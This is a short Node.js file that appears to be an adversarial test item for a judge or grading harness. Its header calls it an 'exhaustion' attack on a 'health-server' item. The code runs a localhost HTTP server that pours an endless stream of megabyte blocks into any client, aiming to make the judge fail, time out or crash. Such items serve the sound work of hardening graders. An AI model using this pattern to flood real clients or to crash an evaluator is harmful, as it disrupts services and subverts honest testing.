// attack: serves a body without end, as fast as it can, for the judge to keep | family: exhaustion | item: health-server | verdicts: fail, timeout, crash | points: 0 | tiers: T1 T2
import { writeSync } from 'node:fs'
import { createServer } from 'node:http'

const block = Buffer.alloc(1 << 20, 49)
createServer((_request, response) => {
  writeSync(1, 'tried')
  response.writeHead(200)
  const pour = () => {
    while (response.write(block));
  }
  response.on('drain', pour)
  pour()
}).listen(Number(process.env.PORT), '127.0.0.1')
